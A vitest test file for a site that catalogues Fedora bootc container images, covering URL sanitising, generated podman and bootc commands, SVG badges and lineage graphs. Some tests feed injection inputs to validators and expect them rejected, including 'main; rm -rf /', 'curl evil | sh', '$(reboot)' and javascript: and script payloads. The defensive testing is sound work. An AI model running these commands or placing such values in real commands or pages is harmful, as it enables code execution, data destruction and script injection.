import { describe, expect, it } from 'vitest';
import { imageBadges, renderBadge, streamSlug } from '../../../src/site/badges.ts';
import { escapeXml } from '../../../src/utils/xml.ts';
import { describeCadence, tagCadence } from '../../../src/site/cadence.ts';
import { diskImageBuilder, tagCommands } from '../../../src/site/commands.ts';
import {
  buildContents,
  declaredLineage,
  imageLinks,
  recentDigests,
} from '../../../src/site/image-facts.ts';
import { groupImagesByRole, imageFacets, visibleTags } from '../../../src/site/image-index.ts';
import { listImages, usageCommands } from '../../../src/site/images.ts';
import {
  layoutLineage,
  lineageEdges,
  lineageNeighbourhood,
} from '../../../src/site/lineage-graph.ts';
import { pickImages } from '../../../src/site/picker.ts';
import { commitUrl, registryPageUrl, safeHttpUrl } from '../../../src/site/urls.ts';
import { fixtureData } from '../../helpers/site-data.ts';

const NOW = new Date('2026-11-28T12:00:00Z');
const DIGEST = `sha256:${'a'.repeat(64)}`;

describe('safeHttpUrl', () => {
  it('keeps http(s) addresses and drops every other scheme', () => {
    expect(safeHttpUrl('https://github.com/ublue-os/bluefin')).toBe(
      'https://github.com/ublue-os/bluefin',
    );
    expect(safeHttpUrl(' http://example.org/x ')).toBe('http://example.org/x');
    for (const bad of [
      'javascript:alert(1)',
      'JaVaScRiPt:alert(1)',
      'data:text/html,x',
      '//evil.example',
      '/relative',
      'https://',
      '',
      undefined,
    ])
      expect(safeHttpUrl(bad), String(bad)).toBeUndefined();
  });

  it('links registry pages and commits only where the host has them', () => {
    expect(registryPageUrl('quay.io/fedora/fedora-bootc', '44')).toBe(
      'https://quay.io/repository/fedora/fedora-bootc?tab=tags&tag=44',
    );
    expect(registryPageUrl('registry.fedoraproject.org/fedora-bootc')).toBeUndefined();
    expect(
      commitUrl('https://github.com/ublue-os/bluefin/blob/main/Containerfile', 'abc1234'),
    ).toBe('https://github.com/ublue-os/bluefin/commit/abc1234');
    expect(commitUrl('https://gitlab.com/fedora/bootc/base-images/-/tree/main', 'abc1234')).toBe(
      'https://gitlab.com/fedora/bootc/base-images/-/commit/abc1234',
    );
    expect(commitUrl('javascript:alert(1)//github.com/a/b', 'abc1234')).toBeUndefined();
    expect(commitUrl('https://github.com/a/b', 'main; rm -rf /')).toBeUndefined();
  });
});

describe('tagCommands', () => {
  it('writes each command by tag and pinned by digest, with the disk-image builder the label names', () => {
    const commands = tagCommands('quay.io/fedora/fedora-bootc', '44', DIGEST, {
      'bootc.diskimage-builder': 'quay.io/centos-bootc/bootc-image-builder',
    });
    expect(commands.map((command) => [command.byTag, command.byDigest]).slice(0, 3)).toEqual([
      [
        'podman pull quay.io/fedora/fedora-bootc:44',
        `podman pull quay.io/fedora/fedora-bootc@${DIGEST}`,
      ],
      [
        'sudo bootc switch quay.io/fedora/fedora-bootc:44',
        `sudo bootc switch quay.io/fedora/fedora-bootc@${DIGEST}`,
      ],
      ['FROM quay.io/fedora/fedora-bootc:44', `FROM quay.io/fedora/fedora-bootc@${DIGEST}`],
    ]);
    expect(commands[3]!.byTag).toMatch(
      /^sudo podman run .* quay\.io\/centos-bootc\/bootc-image-builder:latest --type qcow2 --rootfs xfs quay\.io\/fedora\/fedora-bootc:44$/,
    );
  });

  it('leaves out the disk-image command when the label is missing or is not a plain image reference', () => {
    expect(tagCommands('quay.io/a/b', '1', DIGEST).map((command) => command.tool)).toEqual([
      'podman',
      'bootc',
      'Containerfile',
    ]);
    expect(
      diskImageBuilder({ 'bootc.diskimage-builder': 'quay.io/x/y; curl evil | sh' }),
    ).toBeUndefined();
    expect(diskImageBuilder({ 'bootc.diskimage-builder': '$(reboot)' })).toBeUndefined();
  });

  it('shows only the bootc command in the bootc tab, for an image named after bootc', () => {
    const bootc = usageCommands('quay.io/fedora/fedora-bootc', '44', DIGEST).find(
      (usage) => usage.tool === 'bootc',
    );
    expect(bootc?.commands).toEqual(['sudo bootc switch quay.io/fedora/fedora-bootc:44']);
  });
});

describe('tagCadence', () => {
  const build = (day: string) => ({
    digest: DIGEST,
    created: `${day}T06:00:00Z`,
    seenAt: `${day}T07:00:00Z`,
  });

  it('gives the usual interval and flags a tag quiet for more than twice that', () => {
    const weekly = tagCadence(
      { history: [build('2026-11-01'), build('2026-10-25'), build('2026-10-18')] },
      NOW,
    );
    expect(describeCadence(weekly)).toBe('a new build every 7 days');
    expect(weekly.overdue).toBe(true);
    const fresh = tagCadence({ history: [build('2026-11-27'), build('2026-11-20')] }, NOW);
    expect(fresh.overdue).toBe(false);
    expect(describeCadence(tagCadence({ history: [build('2026-11-27')] }, NOW))).toBe(
      'one build seen',
    );
  });
});

describe('badges', () => {
  it('escapes every text of the SVG', () => {
    const svg = renderBadge({
      label: '<script>alert(1)</script>',
      message: 'a & "b"',
      color: 'grey',
    });
    expect(svg).not.toContain('<script>');
    expect(svg).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(svg).toContain('a &amp; &quot;b&quot;');
    expect(escapeXml(`'`)).toBe('&apos;');
  });

  it('gives one badge per image and per stream, from the newest build', async () => {
    const [bootc] = listImages(await fixtureData());
    const badges = imageBadges(bootc!, NOW);
    expect(badges.map((badge) => badge.path)).toEqual([
      '/badges/quay.io/fedora/fedora-bootc.svg',
      '/badges/quay.io/fedora/fedora-bootc/releases.svg',
    ]);
    expect(badges[0]!.badge.message).toBe('built yesterday · 1 platform · unsigned');
    expect(streamSlug('Fedora 44/beta')).toBe('fedora-44-beta');
  });
});

describe('the image catalog', () => {
  it('orders images by role and reads their facets', async () => {
    const images = listImages(await fixtureData());
    expect(groupImagesByRole(images).map((group) => group.heading)).toEqual([
      'Official base images',
      'Official variants',
    ]);
    expect(imageFacets(images[0]!)).toMatchObject({
      subproject: 'base',
      role: 'base',
      architectures: ['amd64', 'arm64', 'ppc64le', 's390x'],
      bootable: true,
    });
  });

  it('collapses 40-character revision tags behind the rest', () => {
    const sha = 'a'.repeat(40);
    expect(visibleTags(['latest', sha, '44'], 6)).toEqual({
      shown: ['latest', '44'],
      hidden: [sha],
    });
  });

  it('shows only the newest builds in full', () => {
    const group = (digest: string, created: string) => ({ digest, created }) as never;
    expect([
      ...recentDigests(
        [group('a', '2026-01-01'), group('b', '2026-03-01'), group('c', '2026-02-01')],
        2,
      ),
    ]).toEqual(['b', 'c']);
  });

  it('reads what a build holds from its labels and links out only over http(s)', async () => {
    const contents = buildContents([
      {
        os: 'linux',
        architecture: 'amd64',
        digest: DIGEST,
        created: null,
        size: 0,
        layers: 0,
        labels: {
          'org.opencontainers.image.version': '44.20261127',
          'org.opencontainers.image.revision': 'abcdef1234567',
          'org.opencontainers.image.source': 'https://github.com/ublue-os/bluefin',
          'org.opencontainers.image.url': 'javascript:alert(1)',
          'ostree.linux': '6.17.8-300.fc44.x86_64',
        },
      },
    ]);
    expect(contents).toMatchObject({
      version: '44.20261127',
      kernel: '6.17.8-300.fc44.x86_64',
      revisionUrl: 'https://github.com/ublue-os/bluefin/commit/abcdef1234567',
      url: undefined,
    });
    const [bootc] = listImages(await fixtureData());
    expect(imageLinks(bootc!).map((link) => link.href)).toContain(
      'https://quay.io/repository/fedora/fedora-bootc',
    );
  });
});

describe('the lineage graph', () => {
  it('draws an edge from each base to the images built on it, verified when a tag confirms it', async () => {
    const images = listImages(await fixtureData());
    expect(lineageEdges(images)).toEqual([
      { from: 'quay.io/fedora/fedora-bootc', to: 'quay.io/fedora/fedora-coreos', verified: true },
    ]);
    const graph = layoutLineage(images, 'quay.io/fedora/fedora-coreos');
    expect(graph.nodes.map((node) => [node.href, node.x > 8, node.current])).toEqual([
      ['/images/quay.io/fedora/fedora-bootc/', false, false],
      ['/images/quay.io/fedora/fedora-coreos/', true, true],
    ]);
    expect(lineageNeighbourhood(images, 'quay.io/fedora/fedora-bootc').length).toBe(2);
  });
});

describe('pickImages', () => {
  it('suggests the base image to build your own, with its owner and command', async () => {
    const data = await fixtureData();
    const picks = pickImages(data, listImages(data));
    const build = picks.find((pick) => pick.need.id === 'build')!;
    expect(
      build.suggestions.map((suggestion) => [
        suggestion.view.ref,
        suggestion.support,
        suggestion.command,
      ]),
    ).toEqual([
      [
        'quay.io/fedora/fedora-bootc',
        'Official base image',
        'sudo bootc switch quay.io/fedora/fedora-bootc:latest',
      ],
    ]);
    expect(
      picks.find((pick) => pick.need.id === 'server')!.suggestions.map((s) => s.view.ref),
    ).toContain('quay.io/fedora/fedora-coreos');
  });
});

describe('the declared lineage of an image page', () => {
  it('links the builder and each stream’s base to their pages, and marks a stream’s own base', () => {
    const refs = new Set(['quay.io/fedora/fedora-bootc', 'quay.io/fedora/fedora-bootc-builder']);
    const lineage = declaredLineage(
      {
        ref: 'quay.io/fedora/fedora-coreos',
        role: 'variant',
        basedOn: 'quay.io/fedora/fedora-bootc',
        builder: 'quay.io/fedora/fedora-bootc-builder',
        mirrors: [],
        platforms: [],
        streams: [
          { name: 'stable', tags: ['stable'], keep: 10 },
          {
            name: 'next-devel',
            tags: ['next-devel'],
            keep: 10,
            basedOn: 'quay.io/example/elsewhere',
          },
        ],
      },
      refs,
    );
    expect(lineage.builder).toEqual({
      label: 'quay.io/fedora/fedora-bootc-builder',
      href: '/images/quay.io/fedora/fedora-bootc-builder/',
    });
    expect(lineage.streams.map(({ stream, basedOn, own }) => [stream.name, basedOn, own])).toEqual([
      [
        'stable',
        { label: 'quay.io/fedora/fedora-bootc', href: '/images/quay.io/fedora/fedora-bootc/' },
        false,
      ],
      // Not in the catalog: named, not linked.
      ['next-devel', { label: 'quay.io/example/elsewhere', href: undefined }, true],
    ]);
    const plain = declaredLineage(lineageImage(), refs);
    expect([plain.basedOn, plain.builder, plain.streams[0]!.basedOn]).toEqual([
      undefined,
      undefined,
      undefined,
    ]);
  });
});

/** A base image with one stream and no declared lineage. */
function lineageImage() {
  return {
    ref: 'quay.io/fedora/fedora-bootc',
    role: 'base' as const,
    mirrors: [],
    platforms: [],
    streams: [{ name: 'releases', tags: ['latest'], keep: 10 }],
  };
}
